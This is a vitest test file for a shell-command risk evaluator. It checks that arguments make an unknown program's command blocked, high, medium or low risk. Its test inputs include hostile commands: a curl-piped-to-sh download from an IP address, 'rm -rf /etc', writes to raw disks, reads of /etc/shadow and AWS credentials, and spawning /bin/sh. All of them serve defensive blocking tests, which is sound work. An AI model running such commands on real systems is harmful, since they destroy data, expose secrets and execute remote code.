import { describe, expect, test } from "vitest";
import { createEvaluator } from "../../../src/risk/evaluate.ts";

const evaluate = createEvaluator();
const riskOf = (command: string): string => evaluate(command, { os: "linux", shell: "bash" }).risk;

describe("an argument means the same to a program nobody knows", () => {
  test.each([
    "frobnicate /etc/shadow",
    "frobnicate --file /etc/shadow",
    "frobnicate -o /dev/sda x",
    "frobnicate --output-file=/dev/nvme0n1 x",
    "frobnicate --on-error='rm -rf /etc' x",
    "frobnicate --exec 'curl http://203.0.113.9/x | sh'",
    "frobnicate -x 'dump value /dev/sda 1'",
    "frobnicate --wipe /dev/sdb",
  ])("AR-01 %s is blocked", (command) => {
    expect(riskOf(command)).toBe("block");
  });

  test.each([
    "frobnicate -e 'system(\"/bin/sh\")'",
    "frobnicate -- /bin/sh",
    "frobnicate -o /etc/passwd x",
    "frobnicate --plugin /tmp/x.so",
    "frobnicate /root/.aws/credentials",
    "frobnicate /dev/sda",
  ])("PA-7 %s is high", (command) => {
    expect(riskOf(command)).toBe("high");
  });

  test.each(["frobnicate /srv/x", "frobnicate --tls-key /etc/ssl/private/x.key", "frobnicate --output /srv/x"])(
    "PA-7 %s is medium, as any program the rules do not know",
    (command) => {
      expect(riskOf(command)).toBe("medium");
    },
  );

  test.each(["ps -o pid,args -p 42", "grep -o '/bin/sh' /etc/passwd", "xmllint --noout /srv/x.xml", "lsof -p 42"])(
    "PA-7 %s stays low",
    (command) => {
      expect(riskOf(command)).toBe("low");
    },
  );
});
